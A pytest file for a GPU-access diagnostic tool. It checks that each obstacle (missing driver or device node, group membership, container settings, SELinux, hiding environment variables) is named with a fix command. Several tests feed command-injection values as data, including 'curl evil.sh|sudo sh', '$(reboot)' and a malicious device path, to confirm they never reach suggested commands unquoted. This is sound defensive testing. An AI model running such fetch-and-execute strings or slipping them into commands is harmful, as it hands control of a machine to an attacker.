"""Each thing that keeps a process from a GPU is named, with the exact line that removes it."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpers.judge.obstacles import Obstacle, obstacles
from helpers.look.bundle import BundleWriter

AMD = {"pci": "0000:03:00.0", "class": "0x030000", "vendor": "0x1002", "driver": "amdgpu"}
NVIDIA = {"pci": "0000:81:00.0", "class": "0x030200", "vendor": "0x10de", "driver": "nvidia"}
ME = {"uid": 1000, "gid": 1000, "groups": [{"gid": 1000, "name": ""}], "groups_in_database": []}
ME |= {"uid_map": "0 0 4294967295", "gid_map": "0 0 4294967295", "container": "none"}
ME |= {"selinux_mode": "disabled", "selinux_context": "", "init_pid_ns": True}
KFD = {"path": "/dev/kfd", "status": "ok", "errno": "", "mode": "0660", "uid": 0, "gid": 110}
KFD |= {"group": "render", "selinux": ""}
RENDER = {**KFD, "path": "/dev/dri/renderD128"}
CONTROL = {**KFD, "path": "/dev/nvidiactl", "mode": "0666", "gid": 0, "group": "root"}
CARD = {**CONTROL, "path": "/dev/nvidia0"}


DOCKER = {"container": "docker"}
IN_RENDER = {"groups": [{"gid": 110, "name": "render"}], "selinux_mode": "disabled"}
ROOTLESS = {"uid": 0, "container": "podman", "gid_map": "0 1000 1"}
CONFINED = {"container": "podman", "selinux_mode": "enforcing", "selinux_context": "u:r:c_t:s0"}
BOTH = [KFD, RENDER]
NOWHERE = {"uid": 65534, "gid": 65534, "group": "nogroup"}


def bundle(**tables):
    made = BundleWriter("b", "constructed", "0", "now")
    for name, rows in tables.items():
        made.add("file", name, "".join(json.dumps(row) + "\n" for row in rows))
    return made.bundle()


def refused(node, number="EACCES", **more):
    return {**node, "status": "not_allowed", "errno": number, "why": f"refused ({number})", **more}


def gone(node):
    missing = {"status": "not_available", "errno": "ENOENT", "why": "no such file"}
    return {"path": node["path"], **missing}


MISSING = [gone(KFD), gone(RENDER)]
BROKEN = {**KFD, "status": "not_available", "errno": "EIO", "why": "Input/output error (EIO)"}


@pytest.mark.parametrize(
    ("access", "display", "who", "cause", "fix"),
    [
        (BOTH, AMD, {}, "", ""),
        ([CONTROL, CARD], NVIDIA, {}, "", ""),
        (MISSING, None, {}, "no_gpu", ""),
        (MISSING, {**AMD, "driver": ""}, {}, "no_driver", "sudo modprobe amdgpu"),
        (MISSING, {**AMD, "driver": "vfio-pci"}, {}, "no_driver", ""),
        ([gone(CONTROL)], {**NVIDIA, "driver": "nouveau"}, {}, "no_driver", ""),
        ([gone(KFD), RENDER], AMD, {}, "no_node", "sudo dmesg"),
        (MISSING, AMD, DOCKER, "no_node", "docker run --device=/dev/kfd --device=/dev/dri"),
        ([gone(CONTROL)], NVIDIA, DOCKER, "no_node", "docker run --gpus all"),
        ([gone(CONTROL)], NVIDIA, {"container": "podman"}, "no_node", "--device nvidia.com/gpu=all"),
        ([gone(KFD)], AMD, {"container": "kubernetes"}, "no_node", "amd.com/gpu"),
        ([refused(KFD, "EPERM"), RENDER], AMD, DOCKER, "device_cgroup", "docker run --device=/dev/kfd"),
        ([refused(KFD), RENDER], AMD, {}, "group", "sudo usermod -aG render $USER"),
        ([refused(KFD, group=""), RENDER], AMD, {}, "group", "sudo usermod -aG 110 $USER"),
        ([refused(KFD), RENDER], AMD, {"groups_in_database": ["render"]}, "group_not_in_session", "newgrp render"),
        ([refused(KFD), RENDER], AMD, DOCKER, "group", "docker run --group-add 110"),
        ([refused(KFD, **NOWHERE), RENDER], AMD, ROOTLESS, "unmapped_group", "podman run --group-add keep-groups"),
        ([refused(KFD, mode="0666"), RENDER], AMD, CONFINED, "selinux", "setsebool -P container_use_devices=true"),
        ([refused(KFD), RENDER], AMD, IN_RENDER, "refused", ""),
        ([refused(KFD, mode="0600"), RENDER], AMD, {}, "refused", "ls -l /dev/kfd"),
        ([BROKEN, RENDER], AMD, {}, "no_device", "sudo dmesg"),
    ],
)  # fmt: skip
def test_what_stands_in_the_way_is_named_with_the_line_that_removes_it(
    access, display, who, cause, fix
):
    bus = [display] if display else []
    found = obstacles(bundle(access=access, pci_devices=bus, identity=[{**ME, **who}]))
    assert [o.cause for o in found] == ([cause] if cause else [])
    assert all(fix in o.fix and bool(o.fix) is bool(fix) for o in found), found


EVIL = "render; curl evil.sh|sudo sh #"
ROOTS = ["root", "sudo", "docker", "disk", "shadow", "wheel", "adm"]


def fixes_of(node, **who):
    rows = [{**ME, **who}]
    found = obstacles(bundle(access=[node, RENDER], pci_devices=[AMD], identity=rows))
    return [o.fix for o in found]


@pytest.mark.parametrize("who", [{}, DOCKER, {"groups_in_database": ["render", EVIL, *ROOTS]}])
@pytest.mark.parametrize("group", [EVIL, "$(reboot)", "render\nreboot", "-G root", "`x`", "a" * 40])
def test_a_name_that_no_group_has_never_stands_in_a_command(group, who):
    for fix in fixes_of(refused(KFD, group=group), **who):
        assert fix == "" or group not in fix, fix
    assert all(
        "usermod" not in fix and "newgrp" not in fix
        for fix in fixes_of(refused(KFD, group=group), **who)
    )


@pytest.mark.parametrize("mode", ["0660", "0600"])
@pytest.mark.parametrize("who", [{}, DOCKER, {"groups_in_database": ROOTS}])
@pytest.mark.parametrize("group", ROOTS)
def test_nobody_is_told_to_join_a_group_that_has_roots_rights(group, who, mode):
    (fix,) = fixes_of(refused(KFD, group=group, gid=7, mode=mode), **who)
    assert f"usermod -aG {group}" not in fix and "newgrp" not in fix and "--group-add 7" not in fix
    assert 'KERNEL=="kfd", GROUP="render", MODE="0660"' in fix and "70-amdgpu.rules" in fix
    assert ("on the host" in fix) is (who is DOCKER)
    (by_number,) = fixes_of(refused(KFD, group="render", gid=0), **who)
    assert "70-amdgpu.rules" in by_number


def test_a_path_that_a_stranger_wrote_is_one_word_of_a_command():
    node = refused({**RENDER, "mode": "0600"}, path="/dev/dri/x; curl evil.sh|sh")
    fixes = [o.fix for o in obstacles(bundle(access=[KFD, node], pci_devices=[AMD], identity=[ME]))]
    assert "ls -l '/dev/dri/x; curl evil.sh|sh'" in fixes


def test_a_group_of_roots_on_nvidias_nodes_is_the_modules_matter():
    node = refused({**CARD, "mode": "0660"})
    found = obstacles(bundle(access=[CONTROL, node], pci_devices=[NVIDIA], identity=[ME]))
    assert [o.fix for o in found] == ["grep DeviceFile /proc/driver/nvidia/params"]


@pytest.mark.parametrize(
    ("display", "name", "value", "hides"),
    [
        (AMD, "ROCR_VISIBLE_DEVICES", "", True),
        (AMD, "HIP_VISIBLE_DEVICES", "-1", True),
        (AMD, "HIP_VISIBLE_DEVICES", "", False),
        (AMD, "CUDA_VISIBLE_DEVICES", "0", False),
        (NVIDIA, "NVIDIA_VISIBLE_DEVICES", "void", False),
    ],
)
def test_a_variable_that_hides_every_gpu_is_named_with_its_unset(display, name, value, hides):
    tables = {"access": BOTH if display is AMD else [CONTROL, CARD], "pci_devices": [display]}
    variable = {"name": name, "value": value}
    found = obstacles(bundle(**tables, identity=[ME], environment=[variable]))
    assert [(o.cause, o.fix) for o in found] == ([("variable", f"unset {name}")] if hides else [])


@pytest.mark.parametrize(
    ("below", "value", "hides"),
    [("1", "1", True), ("1", "0", False), ("0,1", "1", False), ("", "1", False)],
)
def test_hip_counts_the_gpus_that_rocr_leaves(below, value, hides):
    cards = [AMD, {**AMD, "pci": "0000:0a:00.0"}]
    kept = {"ROCR_VISIBLE_DEVICES": below, "HIP_VISIBLE_DEVICES": value}
    rows = [{"name": name, "value": value} for name, value in kept.items() if value]
    found = obstacles(bundle(access=BOTH, pci_devices=cards, identity=[ME], environment=rows))
    assert [o.path for o in found] == (["HIP_VISIBLE_DEVICES"] if hides else [])


def test_a_refused_screen_node_is_no_obstacle_to_computing():
    card = refused({**KFD, "path": "/dev/dri/card0"})
    assert obstacles(bundle(access=[KFD, RENDER, card], pci_devices=[AMD], identity=[ME])) == ()


def test_nothing_is_said_where_nothing_was_captured():
    assert obstacles(bundle()) == ()


WORDS = st.lists(st.text(max_size=3), max_size=2)
VALUES = st.none() | st.booleans() | st.integers(-1, 99999) | st.text(max_size=5) | WORDS
KEYS = "path status errno mode uid gid group why name value vendor class driver groups container".split()
KEYS.append("groups_in_database")


@settings(max_examples=60, deadline=None)
@given(rows=st.lists(st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=8), max_size=3))
def test_any_rows_are_judged_without_an_error(rows):
    made = bundle(access=rows, identity=rows, environment=rows, pci_devices=rows)
    assert all(isinstance(o, Obstacle) and o.says for o in obstacles(made))
